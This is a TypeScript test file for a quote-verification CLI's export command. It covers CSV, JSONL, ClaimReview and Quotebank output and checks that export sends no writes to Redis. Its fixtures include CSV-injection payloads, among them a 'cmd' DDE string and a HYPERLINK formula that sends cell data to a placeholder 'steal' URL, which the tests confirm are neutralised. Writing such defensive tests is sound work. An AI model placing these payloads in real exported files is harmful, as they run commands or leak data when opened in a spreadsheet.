import { mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ArticleStore, type Claim, createLogger, createRedis, Keys, type Redis, type StoredArticle } from '@quotecheck/shared';
import {
  type ClaimReviewRecord,
  type ClaimWrites,
  CSV_COLUMNS,
  type ExportedClaim,
  emptyWrites,
  OCCURRENCE_COLUMNS,
  type QuotebankRecord,
  RedisClaimStore,
  RedisDecisionLog,
} from '@quotecheck/verify';
import { verifyArticle } from '@quotecheck/verify/worker';
import type { ValidateFunction } from 'ajv';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, testPrefix } from './support/cli.js';
import { purgePrefix } from './support/redis-keys.js';

const REDIS_URL = process.env.REDIS_URL ?? 'redis://127.0.0.1:6379';
const prefix = testPrefix('cli-export');
const keys = new Keys(prefix);
const env = { QUOTECHECK_PREFIX: prefix, REDIS_URL };
const silent = createLogger({ level: 'silent' });
let redis: Redis;
let dir: string;
// Each CLI child compiles the TypeScript entry point with tsx: 2-20 s on the shared 2-core machine.
const CLI_TIMEOUT = 300_000;

/**
 * Quotations a spreadsheet would run as formulas (OWASP CSV injection), each stored through the
 * verifier as a real article's direct quote.
 */
const HOSTILE_QUOTES = [
  '@SUM(1+1) we will win',
  "+cmd|' /C calc'!A0",
  '=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"click here for the full results")',
  '＝1+1 in full-width form is a formula to some spreadsheets',
];

/**
 * First characters the verifier never keeps at the edge of a quote (it trims spaces and dashes),
 * stored as claims directly through the store.
 */
const HOSTILE_RAW = [
  '-2+3 is what the budget office has been telling everybody',
  '\tcmd /c tab-led quotation',
  '\r=1+1 carriage-return-led quotation',
];

const PLAIN = 'The harbour will reopen to the fishing fleet before the end of the month';

function quoteArticle(id: string, outlet: string, quote: string, speaker: string): StoredArticle {
  const text = `Officials met on Monday to discuss the harbour.\n“${quote}” ${speaker} said on Monday.`;
  const start = text.indexOf(quote);
  return {
    url: `https://${outlet}/${id}`,
    title: id,
    byline: null,
    published: '2026-11-20T10:00:00Z',
    language: 'en',
    paragraphs: text.split('\n'),
    text,
    id,
    canonicalUrl: `https://${outlet}/${id}`,
    feedId: null,
    outlet,
    fetchedAt: '2026-11-20T10:00:00Z',
    attributions: [
      {
        type: 'direct',
        content: { start, end: start + quote.length, text: quote },
        cue: null,
        source: null,
        speaker: { name: speaker, kind: 'person' },
      },
    ],
  };
}

/** Claims written through the store's own transaction, as the verifier writes them. */
async function putClaims(store: RedisClaimStore, claims: Claim[]): Promise<void> {
  const writes: ClaimWrites = { ...emptyWrites(), claims };
  await store.transact(async () => ({ writes, result: null }));
}

/** Every key under the test prefix with its type and value, for "nothing was written" checks. */
async function snapshot(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  let cursor = '0';
  do {
    const [next, found] = await redis.scan(cursor, 'MATCH', `${prefix}:*`, 'COUNT', 1000);
    cursor = next;
    for (const k of found) out[k] = (await redis.dumpBuffer(k))?.toString('base64') ?? '';
  } while (cursor !== '0');
  return out;
}

/**
 * Runs `args` while MONITOR records every command naming the test prefix; returns the result
 * and the commands among them that Redis flags as writes (COMMAND INFO).
 */
async function writesDuring(args: string[]): Promise<{ code: number | null; stderr: string; writes: string[] }> {
  const monitor = await redis.monitor();
  const seen: string[][] = [];
  monitor.on('monitor', (_time: string, cmd: string[]) => {
    if (cmd.some((a) => a.includes(prefix))) seen.push(cmd);
  });
  // MONITOR starts after its reply; a command sent now is seen, so wait for ours.
  await redis.exists(`${prefix}:monitor-probe`);
  await waitFor(() => seen.some((c) => c[1] === `${prefix}:monitor-probe`));
  const r = await runCli(args, env);
  await redis.exists(`${prefix}:monitor-probe-end`);
  await waitFor(() => seen.some((c) => c[1] === `${prefix}:monitor-probe-end`));
  monitor.disconnect();
  const writes: string[] = [];
  for (const cmd of seen) {
    const name = (cmd[0] ?? '').toLowerCase();
    const info = (await redis.command('INFO', name)) as [string, number, string[]][];
    if (info[0]?.[2]?.includes('write')) writes.push(cmd.slice(0, 2).join(' '));
  }
  return { code: r.code, stderr: r.stderr, writes };
}

async function waitFor(check: () => boolean, timeoutMs = 5000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error('MONITOR did not report the probe command');
    await new Promise((r) => setTimeout(r, 20));
  }
}

beforeAll(async () => {
  redis = createRedis(REDIS_URL);
  dir = await mkdtemp(join(tmpdir(), 'qc-cli-export-'));
  const articles = new ArticleStore(redis, keys);
  const store = new RedisClaimStore(redis, keys);
  try {
    const stored = [
      ...HOSTILE_QUOTES.map((q, i) => quoteArticle(`hostile${i}`, 'first.example', q, 'Maria Lopez')),
      quoteArticle('plain', 'first.example', PLAIN, 'Ida Moss'),
    ];
    for (const a of stored) {
      await articles.put(a);
      await verifyArticle({ data: { articleId: a.id }, log: silent }, { articles, store, log: silent });
    }
    // Tab- and CR-led cells, and enough claims (400, about 1 KB each) that the old per-row
    // once('drain') / once('error') listeners went past Node's limit of 10 on a file stream.
    const page = await store.page(null, 10);
    const template = page.claims.find((c) => c.canonical === PLAIN)!;
    const base = Date.parse(template.updatedAt);
    const extra: Claim[] = HOSTILE_RAW.map((q, i) => ({ ...template, id: `raw${i}`, canonical: q }));
    for (let i = 0; i < 400; i++)
      extra.push({
        ...template,
        id: `bulk${i}`,
        canonical: `${PLAIN}, said for the ${i}th time ${'with some more words to make a row long '.repeat(20)}`,
        updatedAt: new Date(base + i).toISOString(),
      });
    await putClaims(store, extra);
  } finally {
    await store.close();
  }
});

afterAll(async () => {
  await purgePrefix(redis, prefix);
  await redis.quit();
  await rm(dir, { recursive: true, force: true });
});

/** The records of a CSV export, header first, as a spreadsheet-agnostic parser reads them. */
function records(csv: string): string[][] {
  return parseCsv(csv, { bom: true, relax_column_count: false }) as string[][];
}

describe('quotecheck export --format csv', { timeout: CLI_TIMEOUT }, () => {
  it('writes every quote that starts like a formula as quoted text behind a single quote', async () => {
    const out = join(dir, 'claims.csv');
    const r = await runCli(['export', '--format', 'csv', '--out', out], env);
    expect(r.code).toBe(0);
    // No MaxListenersExceededWarning, nor anything else.
    expect(r.stderr).toBe('');
    const text = await readFile(out, 'utf8');
    const [header, ...rows] = records(text);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(HOSTILE_QUOTES.length + 1 + HOSTILE_RAW.length + 400);
    const canonical = CSV_COLUMNS.indexOf('canonical');
    const cells = new Set(rows.map((row) => row[canonical]));
    for (const q of [...HOSTILE_QUOTES, ...HOSTILE_RAW]) {
      expect(cells.has(`'${q}`), q).toBe(true);
      expect(cells.has(q), q).toBe(false);
      // Quoted as well as prefixed, so no spreadsheet splits or evaluates it.
      expect(text).toContain(`"'${q.replace(/"/g, '""')}"`);
    }
    expect(cells.has(PLAIN)).toBe(true);
    // No cell of the whole file starts like a formula.
    for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    // The JSON-encoded cells are still JSON.
    const occurrences = CSV_COLUMNS.indexOf('occurrences');
    expect(JSON.parse(rows[0]![occurrences]!)[0].url).toMatch(/^https:\/\/first\.example\//);
  });

  it('starts with a UTF-8 byte order mark with --bom, and only for CSV', async () => {
    const r = await runCli(['export', '--format', 'csv', '--bom', '--status', 'single_source', '--speaker', 'moss'], env);
    expect(r.code).toBe(0);
    expect(r.stdout.charCodeAt(0)).toBe(0xfeff);
    expect(records(r.stdout)[0]).toEqual([...CSV_COLUMNS]);
    const plain = await runCli(['export', '--format', 'csv', '--speaker', 'moss'], env);
    expect(plain.stdout.charCodeAt(0)).toBe('i'.charCodeAt(0));
    const jsonl = await runCli(['export', '--bom'], env);
    expect(jsonl.code).toBe(2);
    expect(jsonl.stderr).toMatch(/--bom is for --format csv/);
  });
});

describe('quotecheck export --out', { timeout: CLI_TIMEOUT }, () => {
  it('refuses a missing directory in one line, exit 1, and creates nothing', async () => {
    const missing = join(dir, 'missing', 'dir', 'x.csv');
    const r = await runCli(['export', '--format', 'csv', '--out', missing], env);
    expect(r.code).toBe(1);
    expect(r.stderr.trim().split('\n')).toEqual([
      `quotecheck: cannot write ${missing}: no such directory (create ${join(dir, 'missing', 'dir')} first)`,
    ]);
    expect(await readdir(dir)).not.toContain('missing');
  });

  it('refuses a directory as the output file', async () => {
    const target = join(dir, 'a-directory');
    await mkdir(target, { recursive: true });
    const r = await runCli(['export', '--out', target], env);
    expect(r.code).toBe(1);
    expect(r.stderr.trim()).toBe(`quotecheck: cannot write ${target}: it is a directory, name a file`);
  });

  it('leaves an existing file as it was, and no temporary file, when the export fails', async () => {
    const sub = await mkdtemp(join(dir, 'keep-'));
    const target = join(sub, 'claims.jsonl');
    await writeFile(target, 'yesterday\n');
    const r = await runCli(['export', '--out', target], { ...env, REDIS_URL: 'redis://127.0.0.1:1' });
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/^quotecheck: Redis is not answering/);
    expect(await readFile(target, 'utf8')).toBe('yesterday\n');
    expect(await readdir(sub)).toEqual(['claims.jsonl']);
  });

  it('replaces the file whole on success, with one JSON line per claim and a clean stderr', async () => {
    const sub = await mkdtemp(join(dir, 'ok-'));
    const target = join(sub, 'claims.jsonl');
    await writeFile(target, 'yesterday\n');
    const r = await runCli(['export', '--out', target], env);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe('');
    const lines = (await readFile(target, 'utf8')).trim().split('\n');
    expect(lines).toHaveLength(await redis.zcard(`${keys.claims}:updated`));
    expect(JSON.parse(lines[0]!)).toHaveProperty('canonical');
    expect(await readdir(sub)).toEqual(['claims.jsonl']);
  });
});

describe('quotecheck export --since', { timeout: CLI_TIMEOUT }, () => {
  it('takes a duration back from now or an ISO date, and names the accepted forms otherwise', async () => {
    const total = await redis.zcard(`${keys.claims}:updated`);
    const count = async (since: string) => {
      const r = await runCli(['export', '--since', since], env);
      expect(r.code, r.stderr).toBe(0);
      return r.stdout.split('\n').filter(Boolean).length;
    };
    expect(await count('2000-01-01')).toBe(total);
    expect(await count('3d')).toBe(total);
    expect(await count('2999-01-01T00:00Z')).toBe(0);
    for (const bad of ['5x']) {
      const r = await runCli(['export', '--since', bad], env);
      expect(r.code).toBe(2);
      expect(r.stderr.trim()).toBe(
        `quotecheck: --since: '${bad}' is neither a duration back from now (90s, 5m, 1h, 2d) nor an ISO date or time (2026-11-26, 2026-11-26T08:00Z)`,
      );
    }
  });
});

describe('read-only commands', { timeout: CLI_TIMEOUT }, () => {
  it('export and status send no write command to Redis and change no key', async () => {
    const before = await snapshot();
    const exported = await writesDuring(['export', '--format', 'csv']);
    expect(exported.code, exported.stderr).toBe(0);
    expect(exported.writes).toEqual([]);
    // Decisions and articles are read too: HMGET and GET only.
    const occurrences = await writesDuring(['export', '--format', 'occurrences-csv', '--reviewed', 'unreviewed']);
    expect(occurrences.code, occurrences.stderr).toBe(0);
    expect(occurrences.writes).toEqual([]);
    const status = await writesDuring(['status', '--json']);
    expect(status.code, status.stderr).toBe(0);
    expect(status.writes).toEqual([]);
    expect(await snapshot()).toEqual(before);
  });
});

/**
 * The exports the field reads, over their own prefix: one claim printed by two outlets (with
 * different context around the same words), a formula-led quote, and stored claims of other
 * statuses; reviewer decisions recorded through the review desk's decision log.
 */
describe('quotecheck export: claimreview, quotebank, occurrences-csv, --reviewed', { timeout: CLI_TIMEOUT }, () => {
  const fprefix = testPrefix('cli-export-formats');
  const fkeys = new Keys(fprefix);
  const fenv = { QUOTECHECK_PREFIX: fprefix, REDIS_URL };
  const PIER = 'We will rebuild the northern pier before the winter storms return';
  const FORMULA = '@SUM(1+1) is how the harbour board counts its votes';
  const ids: Record<'pier' | 'formula' | 'denied' | 'rejected' | 'noted', string> = {
    pier: '',
    formula: '',
    denied: 'fmt-denied',
    rejected: 'fmt-rejected',
    noted: 'fmt-noted',
  };
  const at = { pier: '2026-11-22T09:00:00.000Z', denied: '2026-11-22T09:05:00.000Z', rejected: '2026-11-22T09:10:00.000Z' };
  const ajv = new Ajv2020({ strict: false, allErrors: true });

  function pierArticle(id: string, outlet: string, text: string, published: string, confidence: number): StoredArticle {
    const a = quoteArticle(id, outlet, PIER, 'Ana Ruiz');
    const start = text.indexOf(PIER);
    return {
      ...a,
      text,
      paragraphs: text.split('\n'),
      published,
      fetchedAt: published,
      attributions: [{ ...a.attributions[0]!, content: { start, end: start + PIER.length, text: PIER }, confidence }],
    };
  }

  beforeAll(async () => {
    const articles = new ArticleStore(redis, fkeys);
    const store = new RedisClaimStore(redis, fkeys);
    try {
      const stored = [
        pierArticle(
          'pier-a',
          'first.example',
          `The council met at the harbour on Monday.\n“${PIER},” Ana Ruiz said, adding that the money was ready.\nThe vote is on Friday.`,
          '2026-11-20T10:00:00Z',
          0.9,
        ),
        pierArticle(
          'pier-b',
          'second.example',
          `Fishermen had waited for months. Ana Ruiz, the mayor, said: “${PIER}.”\nShe did not say how.`,
          '2026-11-21T08:30:00Z',
          0.7,
        ),
        { ...quoteArticle('formula', 'third.example', FORMULA, 'Ida Moss'), published: '2026-11-19T07:00:00Z' },
      ];
      for (const a of stored) {
        await articles.put(a);
        await verifyArticle({ data: { articleId: a.id }, log: silent }, { articles, store, log: silent });
      }
      const page = await store.page(null, 10);
      const pier = page.claims.find((c) => c.canonical === PIER)!;
      ids.pier = pier.id;
      ids.formula = page.claims.find((c) => c.canonical === FORMULA)!.id;
      await putClaims(store, [
        { ...pier, id: ids.denied, status: 'denied', flags: ['denied'], canonical: `${PIER}, denied` },
        { ...pier, id: ids.rejected, canonical: `${PIER}, rejected` },
        { ...pier, id: ids.noted, canonical: `${PIER}, noted` },
      ]);
    } finally {
      await store.close();
    }
    const decisions = new RedisDecisionLog(redis, fkeys);
    await decisions.record({
      claimId: ids.pier,
      action: 'confirm',
      reviewer: 'Ida',
      at: at.pier,
      text: 'two outlets, same words',
    });
    await decisions.record({ claimId: ids.denied, action: 'confirm', reviewer: 'Ida', at: at.denied });
    await decisions.record({
      claimId: ids.rejected,
      action: 'reject',
      reviewer: 'Ola',
      at: at.rejected,
      text: 'the mayor never said it',
    });
    // A note after a rejection leaves it rejected; a note alone is no decision.
    await decisions.record({ claimId: ids.rejected, action: 'note', reviewer: 'Ida', at: at.rejected, text: 'asked the desk' });
    await decisions.record({ claimId: ids.noted, action: 'note', reviewer: 'Ida', at: at.rejected, text: 'looking into it' });
  });

  afterAll(async () => {
    await purgePrefix(redis, fprefix);
  });

  const validators = new Map<string, ValidateFunction>();
  /** The schema `export --schema --format F` prints, compiled (once per format: a CLI run is 5-15 s here). */
  async function validator(format: string): Promise<ValidateFunction> {
    const known = validators.get(format);
    if (known) return known;
    const r = await runCli(['export', '--schema', '--format', format], fenv);
    expect(r.code, r.stderr).toBe(0);
    const v = ajv.compile(JSON.parse(r.stdout));
    validators.set(format, v);
    return v;
  }

  /** JSON lines of an export, each checked against the format's schema. */
  async function jsonLines<T>(format: string, extra: string[] = []): Promise<{ rows: T[]; stderr: string }> {
    const validate = await validator(format);
    const r = await runCli(['export', '--format', format, ...extra], fenv);
    expect(r.code, r.stderr).toBe(0);
    const rows = r.stdout
      .split('\n')
      .filter(Boolean)
      .map((l) => JSON.parse(l) as T);
    for (const row of rows) expect(validate(row), JSON.stringify(validate.errors)).toBe(true);
    return { rows, stderr: r.stderr };
  }

  it('puts the latest decision, or null, in every JSONL and CSV row, and --reviewed filters on it', async () => {
    const { rows } = await jsonLines<ExportedClaim>('jsonl');
    expect(rows).toHaveLength(5);
    const byId = new Map(rows.map((r) => [r.id, r.review]));
    expect(byId.get(ids.pier)).toEqual({ action: 'confirm', reviewer: 'Ida', at: at.pier, text: 'two outlets, same words' });
    expect(byId.get(ids.rejected)).toMatchObject({ action: 'reject', reviewer: 'Ola', text: 'the mayor never said it' });
    expect(byId.get(ids.noted)).toBeNull();
    expect(byId.get(ids.formula)).toBeNull();
    const idsOf = async (reviewed: string) =>
      (await jsonLines<ExportedClaim>('jsonl', ['--reviewed', reviewed])).rows.map((r) => r.id).sort();
    expect(await idsOf('confirmed')).toEqual([ids.pier, ids.denied].sort());
    expect(await idsOf('rejected')).toEqual([ids.rejected]);
    expect(await idsOf('any')).toEqual([ids.pier, ids.denied, ids.rejected].sort());
    expect(await idsOf('unreviewed')).toEqual([ids.formula, ids.noted].sort());
    const validate = await validator('csv');
    const csv = await runCli(['export', '--format', 'csv', '--reviewed', 'rejected'], fenv);
    const objects = parseCsv(csv.stdout, { columns: true }) as Record<string, string>[];
    expect(objects).toHaveLength(1);
    expect(validate(objects[0]), JSON.stringify(validate.errors)).toBe(true);
    expect(JSON.parse(objects[0]!.review!)).toMatchObject({ action: 'reject', reviewer: 'Ola' });
    // The schemas are not vacuous.
    expect(validate({ ...objects[0], extra: 'x' })).toBe(false);
    expect((await validator('jsonl'))({ ...rows[0], review: { action: 'maybe' } })).toBe(false);
  });

  it('writes a ClaimReview per decided claim, with the speaker, the appearances and the rating, and counts the rest', async () => {
    const { rows, stderr } = await jsonLines<ClaimReviewRecord>('claimreview', [
      '--org',
      'Harbour Desk',
      '--url-base',
      'https://desk.example',
    ]);
    expect(stderr.trim()).toBe(
      "quotecheck: 2 claims without a reviewer's decision left out of claimreview (decide on them in quotecheck serve --writable)",
    );
    expect(rows.map((r) => r.identifier).sort()).toEqual([ids.pier, ids.denied, ids.rejected].sort());
    const pier = rows.find((r) => r.identifier === ids.pier)!;
    expect(pier).toMatchObject({
      '@context': 'https://schema.org',
      '@type': 'ClaimReview',
      url: `https://desk.example/claims/${ids.pier}`,
      claimReviewed: PIER,
      author: { '@type': 'Organization', name: 'Harbour Desk' },
      datePublished: at.pier,
      reviewBody: 'two outlets, same words',
      itemReviewed: { '@type': 'Claim', author: { '@type': 'Person', name: 'Ana Ruiz' } },
    });
    expect(pier.itemReviewed.appearance).toEqual([
      {
        '@type': 'NewsArticle',
        url: 'https://first.example/pier-a',
        datePublished: '2026-11-20T10:00:00Z',
        publisher: { '@type': 'Organization', name: 'first.example' },
      },
      {
        '@type': 'NewsArticle',
        url: 'https://second.example/pier-b',
        datePublished: '2026-11-21T08:30:00Z',
        publisher: { '@type': 'Organization', name: 'second.example' },
      },
    ]);
    const rating = (id: string) => rows.find((r) => r.identifier === id)!.reviewRating;
    const status = (await jsonLines<ExportedClaim>('jsonl')).rows.find((r) => r.id === ids.pier)!.status;
    expect(status).toBe('corroborated');
    expect(rating(ids.pier)).toEqual({
      '@type': 'Rating',
      ratingValue: 5,
      bestRating: 5,
      worstRating: 1,
      alternateName: 'Accurate attribution',
    });
    expect(rating(ids.denied)).toMatchObject({ ratingValue: 1, alternateName: 'Denied by the speaker' });
    expect(rating(ids.rejected)).toMatchObject({ ratingValue: 1, alternateName: 'Misattributed' });
  });

  it('writes Quotebank records with probas from the attribution confidences', async () => {
    const { rows } = await jsonLines<QuotebankRecord>('quotebank', ['--speaker', 'ruiz', '--reviewed', 'confirmed']);
    const pier = rows.find((r) => r.quoteID === ids.pier)!;
    expect(pier).toEqual({
      quoteID: ids.pier,
      quotation: PIER,
      speaker: 'Ana Ruiz',
      qids: null,
      date: '2026-11-20 10:00:00',
      numOccurrences: 2,
      // (0.9 + 0.7) / 2
      probas: [
        ['Ana Ruiz', '0.8000'],
        ['None', '0.2000'],
      ],
      urls: ['https://first.example/pier-a', 'https://second.example/pier-b'],
      phase: null,
      review: { action: 'confirm', reviewer: 'Ida', at: at.pier, text: 'two outlets, same words' },
    });
  });

  it('writes one CSV row per occurrence with the quote as printed and the text around it, formulas neutralised', async () => {
    const validate = await validator('occurrences-csv');
    const r = await runCli(['export', '--format', 'occurrences-csv'], fenv);
    expect(r.code, r.stderr).toBe(0);
    const [header] = records(r.stdout);
    expect(header).toEqual([...OCCURRENCE_COLUMNS]);
    const rows = parseCsv(r.stdout, { columns: true }) as Record<string, string>[];
    // 2 pier occurrences, copied into 3 stored claims as well, and the formula quote.
    expect(rows).toHaveLength(2 * 4 + 1);
    for (const row of rows) expect(validate(row), JSON.stringify(validate.errors)).toBe(true);
    const pier = rows.filter((x) => x.claim_id === ids.pier);
    expect(pier.map((x) => [x.outlet, x.date, x.url, x.quote, x.speaker])).toEqual([
      ['first.example', '2026-11-20T10:00:00Z', 'https://first.example/pier-a', PIER, 'Ana Ruiz'],
      ['second.example', '2026-11-21T08:30:00Z', 'https://second.example/pier-b', PIER, 'Ana Ruiz'],
    ]);
    expect(pier.map((x) => [x.left_context, x.right_context])).toEqual([
      ['“', ',” Ana Ruiz said, adding that the money was ready.'],
      ['Fishermen had waited for months. Ana Ruiz, the mayor, said: “', '.”'],
    ]);
    expect(pier[0]!.sentence).toContain('Ana Ruiz said, adding that the money was ready');
    expect(JSON.parse(pier[0]!.review!)).toMatchObject({ action: 'confirm', reviewer: 'Ida' });
    const formula = rows.find((x) => x.claim_id === ids.formula)!;
    expect(formula.quote).toBe(`'${FORMULA}`);
    expect(formula.review).toBe('');
    expect(r.stdout).toContain(`"'${FORMULA}"`);
  });

  it('refuses, in one line and exit 2, a claimreview without --org, --org elsewhere, and an unknown --reviewed or --format', async () => {
    const cases: [string[], string][] = [
      [
        ['--format', 'claimreview'],
        '--format claimreview needs --org NAME: the reviewing organisation, the author of each review',
      ],
      [['--org', 'Desk'], '--org and --url-base are for --format claimreview'],
      [['--reviewed', 'maybe'], '--reviewed must be one of confirmed, rejected, any, unreviewed'],
      [['--format', 'xml'], '--format must be one of jsonl, csv, claimreview, quotebank, occurrences-csv'],
    ];
    for (const [args, message] of cases) {
      const r = await runCli(['export', ...args], fenv);
      expect(r.code, args.join(' ')).toBe(2);
      expect(r.stderr.trim()).toBe(`quotecheck: ${message}`);
    }
  });
});
